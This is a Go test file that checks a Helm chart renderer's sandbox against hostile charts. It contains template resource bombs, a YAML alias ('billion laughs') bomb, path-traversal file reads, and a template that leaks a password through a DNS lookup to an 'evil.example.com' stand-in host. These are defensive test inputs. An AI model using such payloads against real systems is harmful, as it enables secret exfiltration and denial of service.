package helm_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/hawser-dev/hawser/hub/render"
	"github.com/hawser-dev/hawser/hub/render/helm"
	"github.com/hawser-dev/hawser/hub/render/workspace"
	"github.com/hawser-dev/hawser/shared/fault"
	"github.com/hawser-dev/hawser/shared/model"
)

// TestMain lets the test binary be the render worker.
func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == "worker-render" {
		if err := render.WorkerMain(os.Stdin, os.Stdout); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		return
	}
	os.Exit(m.Run())
}

// tree is a render.Snapshot of texts by path.
type tree map[string]string

func sum(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

func (f tree) Revision() model.Revision { return model.Revision{} }
func (f tree) Root() string             { return "" }

func (f tree) Stat(_ context.Context, p string) (hash string, size int64, mode uint32, err error) {
	if text, ok := f[p]; ok {
		return sum(text), int64(len(text)), 0o100644, nil
	}
	for name := range f {
		if p == "" || strings.HasPrefix(name, p+"/") {
			return "dir", 0, 0o040000, nil
		}
	}
	return "", 0, 0, nil
}

func (f tree) List(ctx context.Context, dir string, _ bool, visit func(path, hash string, size int64, mode uint32, broken bool)) error {
	var names []string
	for p := range f {
		if dir == "" || strings.HasPrefix(p, dir+"/") {
			names = append(names, p)
		}
	}
	if len(names) == 0 {
		return fault.New(fault.Unprocessable, "path_not_found", "path %q does not exist", dir)
	}
	sort.Strings(names)
	for _, n := range names {
		hash, size, mode, _ := f.Stat(ctx, n)
		visit(n, hash, size, mode, false)
	}
	return nil
}

func (f tree) Contents(_ context.Context, hashes []string) ([][]byte, error) {
	out := make([][]byte, len(hashes))
	for _, text := range f {
		for i, h := range hashes {
			if h == sum(text) {
				out[i] = []byte(text)
			}
		}
	}
	return out, nil
}

const (
	chartfile = "apiVersion: v2\nname: web\nversion: 1.0.0\n"
	good      = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: good}\n"
)

func newRenderer(t *testing.T, o render.Options) *render.Renderer {
	t.Helper()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	o.WorkerCommand, o.Workers = []string{self, "worker-render"}, 1
	r, err := render.New(o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.Close)
	return r
}

// TestBombsCostOneRender: what a chart can do to a worker ends by its limits, and
// the next render is as good as ever.
func TestBombsCostOneRender(t *testing.T) {
	r := newRenderer(t, render.Options{Deadline: 4 * time.Second, MemoryLimit: 512 << 20, Limits: render.Limits{OutputBytes: 8 << 20}})
	for _, c := range []struct {
		name  string
		chart tree
		codes []string
	}{
		{"repeat", tree{"templates/x.yaml": `{{ repeat 2000000000 "x" }}`}, []string{"render_crashed", "helm_template_error"}},
		{"until", tree{"templates/x.yaml": `{{ until 2000000000 }}`}, []string{"render_crashed"}},
		{"much output", tree{"templates/x.yaml": `{{ range until 200 }}# {{ repeat 100000 "x" }}{{ "\n" }}{{ end }}`}, []string{"too_large"}},
		{"endless ranges", tree{"templates/x.yaml": `{{ range until 100000 }}{{ range until 100000 }}{{ end }}{{ end }}`}, []string{"render_timeout"}},
		{"a template in itself", tree{"templates/_x.tpl": `{{ define "x" }}{{ template "x" . }}{{ end }}`, "templates/x.yaml": `{{ template "x" . }}`}, []string{"render_crashed", "helm_template_error"}},
		{"include in itself", tree{"templates/_x.tpl": `{{ define "x" }}{{ include "x" . }}{{ end }}`, "templates/x.yaml": `{{ include "x" . }}`}, []string{"helm_template_error"}},
		{"tpl in itself", tree{"templates/x.yaml": `{{ tpl .Values.t . }}`, "values.yaml": "t: '{{ tpl .Values.t . }}'"}, []string{"render_crashed", "render_timeout", "helm_template_error"}},
		{"a deep value", tree{"templates/x.yaml": good, "values.yaml": "a: " + strings.Repeat("[", 200_000) + strings.Repeat("]", 200_000)}, []string{"chart_invalid", "yaml_invalid"}},
		{"a bomb for fromYaml", tree{"templates/x.yaml": `{{ fromYaml (.Files.Get "bomb") | toYaml }}`, "bomb": bomb()}, []string{"render_crashed", "render_timeout", "too_large", "manifest_incomplete"}},
		{"a long name", tree{"templates/x.yaml": `{{ $x := "x" }}{{ range until 40 }}{{ $x = print $x $x }}{{ end }}{{ $x }}`}, []string{"render_crashed"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.chart["Chart.yaml"] = chartfile
			_, err := r.Render(t.Context(), render.Request{AppName: "a", Source: model.Source{Helm: &model.HelmSource{}}, Snapshot: c.chart})
			if err == nil || !slices.Contains(c.codes, fault.As(err).Code) {
				t.Errorf("%v", err)
			}
			res, err := r.Render(t.Context(), render.Request{
				AppName: "a", Source: model.Source{Helm: &model.HelmSource{Values: "n: " + c.name}}, Snapshot: tree{"Chart.yaml": chartfile, "templates/x.yaml": good},
			})
			if err != nil || len(res.Objects) != 1 {
				t.Errorf("the next render: %v", err)
			}
		})
	}
}

func bomb() string {
	var b strings.Builder
	b.WriteString("a: &a [" + strings.Repeat("lol, ", 100) + "]\n")
	for c := 'b'; c < 'j'; c++ {
		fmt.Fprintf(&b, "%c: &%c [%s]\n", c, c, strings.Repeat(fmt.Sprintf("*%c, ", c-1), 100))
	}
	return b.String()
}

// TestNothingOutsideIsReached: a server that must see nothing, and a file whose
// content must not appear.
func TestNothingOutsideIsReached(t *testing.T) {
	const canary = "the content of a file of the hub"
	file := filepath.Join(t.TempDir(), "canary.json")
	if err := os.WriteFile(file, []byte(`{"description": "`+canary+`", "type": "string"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	var seen atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		seen.Add(1)
		fmt.Fprint(w, `{"type": "string"}`)
	}))
	defer srv.Close()
	r := newRenderer(t, render.Options{})
	for _, c := range []struct {
		name  string
		chart tree
		helm  model.HelmSource
		code  string // "" is a good render
		warns string
	}{
		{"a schema with a URL", tree{"values.schema.json": `{"properties": {"a": {"$ref": "` + srv.URL + `/x.json"}}}`, "values.yaml": "a: 1"}, model.HelmSource{}, "", "helm_schema_remote"},
		{"a meta schema with a URL", tree{"values.schema.json": `{"$schema": "` + srv.URL + `/x.json", "type": "object"}`}, model.HelmSource{}, "", "helm_schema_remote"},
		{"a schema with an identity elsewhere", tree{"values.schema.json": `{"$id": "` + srv.URL + `/base/", "properties": {"a": {"$ref": "x.json"}}}`, "values.yaml": "a: 1"}, model.HelmSource{}, "", "helm_schema_remote"},
		{"a schema with a file", tree{"values.schema.json": `{"properties": {"a": {"$ref": "file://` + file + `"}}}`, "values.yaml": "a: 1"}, model.HelmSource{}, "helm_values_schema", ""},
		{"a schema with a path", tree{"values.schema.json": `{"properties": {"a": {"$ref": "` + file + `"}}}`, "values.yaml": "a: 1"}, model.HelmSource{}, "helm_values_schema", ""},
		{"a value file", tree{}, model.HelmSource{ValueFiles: []string{file}}, "helm_values_not_found", ""},
		{"a value file by URL", tree{}, model.HelmSource{ValueFiles: []string{srv.URL + "/values.yaml"}}, "repo_not_permitted", ""},
		{"a file of a parameter", tree{}, model.HelmSource{FileParameters: []model.HelmFileParameter{{Name: "a", Path: "../../../../../.." + file}}}, "path_escapes_repo", ""},
		{"a dependency", tree{"Chart.yaml": chartfile + "dependencies: [{name: a, version: 1.0.0, repository: '" + srv.URL + "'}]\n"}, model.HelmSource{}, "repo_not_permitted", ""},
		{"a dependency in a directory", tree{"Chart.yaml": chartfile + "dependencies: [{name: a, version: 1.0.0, repository: 'file://" + filepath.Dir(file) + "'}]\n"}, model.HelmSource{}, "path_escapes_repo", ""},
		{"files of a template", tree{"templates/y.yaml": good + "data:\n  a: {{ .Files.Get \"" + file + "\" | quote }}\n  b: {{ .Files.Get \"../../../../../../.." + file + "\" | quote }}\n"}, model.HelmSource{}, "", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			if c.chart["Chart.yaml"] == "" {
				c.chart["Chart.yaml"] = chartfile
			}
			c.chart["templates/x.yaml"] = good
			res, err := r.Render(t.Context(), render.Request{AppName: "a", Source: model.Source{Helm: &c.helm}, Snapshot: c.chart})
			switch {
			case c.code != "" && !fault.HasCode(err, c.code):
				t.Errorf("%v instead of %s", err, c.code)
			case c.code == "" && err != nil:
				t.Error(err)
			}
			if strings.Contains(fmt.Sprint(err, res), canary) {
				t.Error("the content of the file came out")
			}
			if c.warns != "" && !slices.ContainsFunc(res.Warnings, func(w workspace.Warning) bool { return w.Code == c.warns }) {
				t.Errorf("there is no warning %s", c.warns)
			}
			if n := seen.Swap(0); n > 0 {
				t.Errorf("the server saw %d requests", n)
			}
		})
	}
}

// TestNamesAreNotResolved: a template could send a secret to whoever answers
// for a domain.
func TestNamesAreNotResolved(t *testing.T) {
	var dialled atomic.Int32
	before := net.DefaultResolver
	net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
		dialled.Add(1)
		return nil, fmt.Errorf("no network")
	}}
	defer func() { net.DefaultResolver = before }()
	if _, err := net.LookupHost("something.example.com"); err == nil || dialled.Swap(0) == 0 {
		t.Fatal("the test does not see look-ups")
	}
	host := &workspace.Memory{Trees: map[string]map[string]string{"": {
		"Chart.yaml": chartfile, "templates/x.yaml": good + `data: {v: {{ getHostByName (printf "%s.evil.example.com" .Values.password) | quote }}}`, "values.yaml": "password: hunter2",
	}}, Values: map[string]string{workspace.AppName: "a"}}
	out, err := helm.Render(&workspace.Workspace{Host: host, Limits: workspace.DefaultLimits()})
	if err != nil {
		t.Fatal(err)
	}
	if v := out.Objects[0].Body["data"].(map[string]any)["v"]; v != "" {
		t.Errorf("%q", v)
	}
	if n := dialled.Load(); n != 0 {
		t.Errorf("%d look-ups", n)
	}
}
